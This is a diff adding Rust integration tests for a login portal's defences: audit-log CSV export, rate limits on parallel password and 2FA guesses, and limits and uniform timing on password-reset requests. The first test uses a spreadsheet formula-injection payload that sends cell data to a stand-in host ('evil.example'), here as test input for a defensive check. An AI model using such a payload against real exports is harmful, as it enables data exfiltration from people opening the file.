@@ -509,3 +509,201 @@ on_both_databases!(
         assert_eq!(newest_mail(&portal).await.status, model::outbox::MailStatus::Sent);
     }
 );
+
+// Whatever a stranger types at login lands in the audit log as the actor: capped in length,
+// and exported so that a spreadsheet shows it as text, never runs it as a formula.
+on_both_databases!(
+    typed_actors_are_capped_and_exported_inert,
+    |t: TestDb| async move {
+        let (portal, _clock) = t.portal();
+        set_up(&portal).await;
+        let typed = format!("=HYPERLINK(\"http://evil.example/?\"&A1){}", "x".repeat(2000));
+        let refused = auth::sign_in_with_password(&portal, "acme", &typed, "wrong", client()).await;
+        assert!(refused.is_err());
+        let mut conn = portal.db.pool.acquire().await.unwrap();
+        let instance = domain::instances::find_by_homerealm(&mut conn, "acme")
+            .await
+            .unwrap()
+            .unwrap();
+        let owner = users::find_by_email(&mut conn, instance.id, EMAIL)
+            .await
+            .unwrap()
+            .unwrap();
+        let root = domain::access::Viewer {
+            instance_id: instance.id,
+            user_id: owner.id,
+            email: EMAIL.into(),
+            role: Role::Superuser,
+            global_scope: true,
+        };
+        let query = model::tenancy::AuditQuery::default();
+        let records = domain::audit::search(&mut conn, &root, &query, 10).await.unwrap();
+        let failure = records.iter().find(|r| r.action == "login.failure").unwrap();
+        assert_eq!(failure.actor.chars().count(), 254);
+        let csv = domain::audit::to_csv(&records).unwrap();
+        let line = csv.lines().find(|l| l.contains("login.failure")).unwrap();
+        let actor_cell = line.split(',').nth(1).unwrap();
+        assert!(
+            actor_cell.to_lowercase().starts_with("\"'=hyperlink"),
+            "{actor_cell}"
+        );
+        assert!(
+            !csv.lines()
+                .any(|l| l.split(',').any(|cell| cell.starts_with('=')))
+        );
+    }
+);
+
+// Guesses sent in parallel are each counted before their secret is checked, so no more of
+// them are checked than the limit allows, however many connections the pool has.
+on_both_databases!(parallel_guesses_never_outrun_the_limits, |t: TestDb| async move {
+    let (portal, _clock) = t.portal();
+    set_up(&portal).await;
+    let mut guesses = tokio::task::JoinSet::new();
+    for _ in 0..24 {
+        let portal = portal.clone();
+        guesses.spawn(async move { password_step(&portal, "Wrong-pass-1").await });
+    }
+    let mut checked = 0;
+    while let Some(outcome) = guesses.join_next().await {
+        match rejected(outcome.unwrap()) {
+            AppError::Throttled { .. } => {}
+            wrong => {
+                assert_eq!(wrong.field(), Some("password"), "{wrong:?}");
+                checked += 1;
+            }
+        }
+    }
+    assert!(checked <= 5, "{checked} passwords checked of 24 parallel guesses");
+
+    let mut conn = portal.db.pool.acquire().await.unwrap();
+    let instance = domain::instances::find_by_homerealm(&mut conn, "acme")
+        .await
+        .unwrap()
+        .unwrap();
+    let user = users::find_by_email(&mut conn, instance.id, EMAIL)
+        .await
+        .unwrap()
+        .unwrap();
+    let token = sessions::create(
+        &mut conn,
+        user.id,
+        Stage::SecondFactor,
+        client(),
+        portal.now(),
+        &portal.sessions,
+    )
+    .await
+    .unwrap();
+    drop(conn);
+    let pending = session(&portal, &token).await;
+    let mut codes = tokio::task::JoinSet::new();
+    for _ in 0..24 {
+        let (portal, pending) = (portal.clone(), pending.clone());
+        codes.spawn(async move { auth::verify_second_factor(&portal, &pending, "000000", client()).await });
+    }
+    let mut checked = 0;
+    while let Some(outcome) = codes.join_next().await {
+        if rejected(outcome.unwrap()).field() == Some("code") {
+            checked += 1;
+        }
+    }
+    assert!(checked < 8, "{checked} codes checked of 24 parallel guesses");
+});
+
+// Resetting a password asks for at most three mails an hour per account and ten requests per
+// address, and answers known and unknown addresses after the same time; an administrator's
+// password or 2FA reset voids the links already sent.
+on_both_databases!(
+    password_reset_requests_are_limited_timed_alike_and_voided_by_admins,
+    |t: TestDb| async move {
+        let (portal, _clock) = t.portal();
+        set_up(&portal).await;
+        let elsewhere = ClientInfo {
+            ip: Some("198.51.100.20".into()),
+            user_agent: None,
+        };
+        for address in [EMAIL, "nobody@acme.example"] {
+            let started = std::time::Instant::now();
+            auth::request_password_reset(&portal, "acme", address, &elsewhere)
+                .await
+                .unwrap();
+            assert!(
+                started.elapsed() >= std::time::Duration::from_millis(500),
+                "{address}"
+            );
+        }
+        for _ in 0..3 {
+            auth::request_password_reset(&portal, "acme", EMAIL, &elsewhere)
+                .await
+                .unwrap();
+        }
+        let sent = |portal: Portal| async move {
+            let mut conn = portal.db.pool.acquire().await.unwrap();
+            let instance = domain::instances::find_by_homerealm(&mut conn, "acme")
+                .await
+                .unwrap()
+                .unwrap();
+            domain::outbox::list(&mut conn, instance.id, 100)
+                .await
+                .unwrap()
+                .into_iter()
+                .filter(|m| m.subject.contains("Reset"))
+                .collect::<Vec<_>>()
+        };
+        assert_eq!(
+            sent(portal.clone()).await.len(),
+            3,
+            "three mails an hour per account"
+        );
+        for _ in 0..5 {
+            assert!(
+                auth::request_password_reset(&portal, "acme", "x@acme.example", &elsewhere)
+                    .await
+                    .is_ok()
+            );
+        }
+        let blocked =
+            rejected(auth::request_password_reset(&portal, "acme", "y@acme.example", &elsewhere).await);
+        assert!(matches!(blocked, AppError::Throttled { .. }), "{blocked:?}");
+
+        let link = link_token(&sent(portal.clone()).await[0].body);
+        auth::check_link(&portal, domain::tokens::Purpose::PasswordReset, &link)
+            .await
+            .expect("the newest link works");
+        let mut conn = portal.db.pool.acquire().await.unwrap();
+        let instance = domain::instances::find_by_homerealm(&mut conn, "acme")
+            .await
+            .unwrap()
+            .unwrap();
+        let owner = users::find_by_email(&mut conn, instance.id, EMAIL)
+            .await
+            .unwrap()
+            .unwrap();
+        drop(conn);
+        let admin = domain::testkit::add_user(
+            &mut portal.db.pool.acquire().await.unwrap(),
+            instance.id,
+            "second-root@acme.example",
+            Role::Superuser,
+            true,
+        )
+        .await;
+        domain::user_admin::set_password(
+            &portal,
+            &admin,
+            owner.id,
+            "Admin-Set-1234",
+            "Admin-Set-1234",
+            client(),
+        )
+        .await
+        .unwrap();
+        assert!(
+            auth::check_link(&portal, domain::tokens::Purpose::PasswordReset, &link)
+                .await
+                .is_err(),
+            "the administrator's reset voided the link"
+        );
+    }
+);
